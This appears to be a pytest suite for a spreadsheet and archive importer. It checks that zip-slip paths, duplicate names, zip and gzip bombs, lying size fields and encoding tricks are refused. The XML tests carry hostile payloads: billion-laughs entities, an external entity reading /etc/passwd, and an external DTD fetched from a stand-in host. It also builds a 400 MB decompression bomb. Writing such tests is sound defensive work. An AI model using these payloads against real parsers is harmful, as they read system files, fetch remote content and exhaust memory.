from __future__ import annotations

import gzip
import io
import struct
import tracemalloc
import zipfile

import pytest

from dtm.engine import connect
from enumerations import archives
from enumerations.archives import check_archive, is_unsafe_name, open_archive, open_gzip
from enumerations.errors import EnumerationsError, UnsafeFileError, WrongFileTypeError
from enumerations.returns import stage_returns
from tests.enumerations.xlsx_parts import header_row, move_row, parts, sheet_xml, write_book

MEGABYTE = 1024**2


def pack(path, entries, method=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", method) as file:
        for name, body in entries:
            file.writestr(name, body)
    return path


def test_an_ordinary_archive_is_read(tmp_path):
    path = pack(tmp_path / "a.zip", [("folder/", b""), ("folder/a.csv", b"x,y\n1,2\n")])
    with open_archive(path) as archive:
        assert archive.names == ("folder/a.csv",)
        assert archive.size_bytes("folder/a.csv") == 8
        with archive.open("folder/a.csv") as file:
            assert file.read() == b"x,y\n1,2\n"
        with pytest.raises(WrongFileTypeError, match="lacks this file"):
            archive.open("b.csv")


@pytest.mark.parametrize(
    ("name", "is_unsafe"),
    [
        ("../a.csv", True), ("a/../../b.csv", True), ("/etc/passwd", True), ("C:/a.csv", True), ("a\\b.csv", True),
        ("a\nb.csv", True), ("", True), ("a.csv", False), ("media/photo..jpg", False), ("хавсралт/а.csv", False),
    ],
)  # fmt: skip
def test_names_that_lead_out_of_the_archive(tmp_path, name, is_unsafe):
    assert is_unsafe_name(name) == is_unsafe
    if name:
        path = pack(tmp_path / "a.zip", [(zipfile.ZipInfo(name), b"1")])
        if is_unsafe:
            with pytest.raises(UnsafeFileError, match="leads out of the archive"):
                check_archive(path)
        else:
            check_archive(path)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_the_same_name_twice_is_refused(tmp_path):
    with pytest.raises(UnsafeFileError, match="holds this name twice"):
        check_archive(pack(tmp_path / "a.zip", [("a.csv", b"1"), ("A.csv", b"2")]))
    with pytest.raises(UnsafeFileError, match="holds this name twice"):
        check_archive(pack(tmp_path / "b.zip", [("a.csv", b"1"), ("a.csv", b"2")]))


def test_encrypted_files_and_other_methods_are_refused(tmp_path):
    path = pack(tmp_path / "a.zip", [("a.csv", b"1")])
    body = bytearray(path.read_bytes())
    body[body.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(body)
    with pytest.raises(UnsafeFileError, match="protected by a password"):
        check_archive(path)
    with pytest.raises(UnsafeFileError, match="a method that isn't read"):
        check_archive(pack(tmp_path / "b.zip", [("a.csv", b"1")], zipfile.ZIP_LZMA))


def test_archives_inside_archives_are_refused_by_their_first_bytes(tmp_path):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as file:
        file.writestr("a.csv", b"1")
    path = pack(tmp_path / "a.zip", [("photo.jpg", inner.getvalue())])
    with pytest.raises(UnsafeFileError, match="an archive inside the archive"):
        check_archive(path)
    check_archive(path, refuse_nested=False)


def test_too_many_files_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "ENTRIES_MAXIMUM", 3)
    check_archive(pack(tmp_path / "a.zip", [(f"{n}.csv", b"") for n in range(3)]))
    with pytest.raises(UnsafeFileError, match="holds 4 files"):
        check_archive(pack(tmp_path / "b.zip", [(f"{n}.csv", b"") for n in range(4)]))


def test_ratio_and_size_are_checked_at_their_limits():
    free, ratio = archives.RATIO_FREE_BYTES, archives.RATIO_MAXIMUM
    archives.check_ratio("a", free, 1)
    archives.check_ratio("a", 100 * free, 100 * free // ratio)
    with pytest.raises(UnsafeFileError, match="over 100 times"):
        archives.check_ratio("a", 100 * free + 1, 100 * free // ratio)


def test_the_sum_of_all_files_counts(tmp_path, monkeypatch):
    monkeypatch.setattr(archives, "INFLATED_BYTES_MAXIMUM", 10)
    check_archive(pack(tmp_path / "a.zip", [("a", b"12345"), ("b", b"12345")]))
    with pytest.raises(UnsafeFileError, match="inflates to 11 bytes; 10 are the most"):
        check_archive(pack(tmp_path / "b.zip", [("a", b"12345"), ("b", b"123456")]))


def test_a_workbook_of_394_kb_that_inflates_to_400_mb_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "bomb.xlsx"
    row = move_row(2).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for name, body in parts("").items():
            if not name.endswith("sheet1.xml"):
                file.writestr(name, body)
        with file.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(sheet_xml(header_row()).split("</sheetData>")[0].encode())
            block = row + b" " * (MEGABYTE - len(row))
            for _ in range(400):
                part.write(block)
            part.write(b"</sheetData></worksheet>")
    assert 350_000 < path.stat().st_size < 450_000
    tracemalloc.start()
    try:
        with pytest.raises(
            UnsafeFileError, match=r"bomb\.xlsx, 'xl/worksheets/sheet1\.xml': .* bytes inflate to 419,4"
        ):
            stage_returns(connect(spatial=False), path, "t")
        assert tracemalloc.get_traced_memory()[1] < 5 * MEGABYTE
    finally:
        tracemalloc.stop()


def test_a_directory_that_lies_about_sizes_gets_no_more_than_it_told(tmp_path):
    path = pack(tmp_path / "a.zip", [("a.csv", b"x" * MEGABYTE)])
    body = bytearray(path.read_bytes())
    at = body.index(b"PK\x01\x02") + 24
    assert struct.unpack_from("<I", body, at) == (MEGABYTE,)
    struct.pack_into("<I", body, at, 1000)
    path.write_bytes(body)
    with (
        pytest.raises(WrongFileTypeError, match="damaged or cut"),
        open_archive(path, refuse_nested=False) as archive,
        archive.open("a.csv") as file,
    ):
        file.read()


def test_gzip_is_bounded_while_it_is_read(tmp_path):
    path = tmp_path / "a.csv.gz"
    path.write_bytes(gzip.compress(b"instance_id,origin,persons\n" + b"a,MN62,4\n" * 10))
    with open_gzip(path) as file:
        assert file.readline() == b"instance_id,origin,persons\n"
    path.write_bytes(gzip.compress(b"instance_id,origin,persons\n" + b" " * 50 * MEGABYTE))
    with pytest.raises(UnsafeFileError, match=r"a\.csv\.gz: .* over 100 times"):
        stage_returns(connect(spatial=False), path, "t")


@pytest.mark.parametrize(
    ("declared", "encoding"),
    [
        ("", "utf-8"), ("", "utf-8-sig"), ('<?xml version="1.0" encoding="UTF-16"?>', "utf-16-le"),
        ('\ufeff<?xml version="1.0" encoding="UTF-16"?>', "utf-16-le"), ('<?xml version="1.0"?>', "utf-16-be"),
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
        f"<!-- {'x' * 5000} --><!DOCTYPE x>",
    ],
)
def test_document_types_and_entities_are_refused_in_every_encoding(tmp_path, declared, encoding, doctype):
    refuse(tmp_path, "xl/worksheets/sheet1.xml", (declared + doctype).encode(encoding), encoding)


@pytest.mark.parametrize("part", ["docProps/app.xml", "xl/_rels/workbook.xml.rels", "xl/drawings/a.vml"])
def test_document_types_are_refused_in_every_part(tmp_path, part):
    refuse(tmp_path, part, b"<!DOCTYPE x>", "utf-8")


def refuse(tmp_path, part, start, encoding):
    entries = parts(sheet_xml(header_row(), move_row(2)))
    entries[part] = start + entries.get(part, "<a/>").encode(encoding.removesuffix("-sig"))
    path = write_book(tmp_path / "a.xlsx", entries)
    with pytest.raises(EnumerationsError, match=f"'{part}': it declares a document type or entities"):
        stage_returns(connect(spatial=False), path, "t")


@pytest.mark.parametrize("encoding", ["cp037", "utf-7", "latin-1"])
def test_xml_in_an_encoding_that_could_hide_a_document_type_is_refused(tmp_path, encoding):
    declared = f'<?xml version="1.0" encoding="{encoding}"?>'
    entries = parts((declared + sheet_xml(header_row(), move_row(2))).encode())
    with pytest.raises(EnumerationsError, match=f"it is in '{encoding}', not in UTF-8"):
        stage_returns(connect(spatial=False), write_book(tmp_path / "a.xlsx", entries), "t")


def test_whoever_reads_a_workbook_may_have_its_xml_checked(tmp_path):
    sound = write_book(tmp_path / "a.xlsx", parts(sheet_xml(header_row(), move_row(2))))
    check_archive(sound)
    entries = parts("<!DOCTYPE x>" + sheet_xml(header_row(), move_row(2)))
    with pytest.raises(UnsafeFileError, match="declares a document type"):
        check_archive(write_book(tmp_path / "b.xlsx", entries))
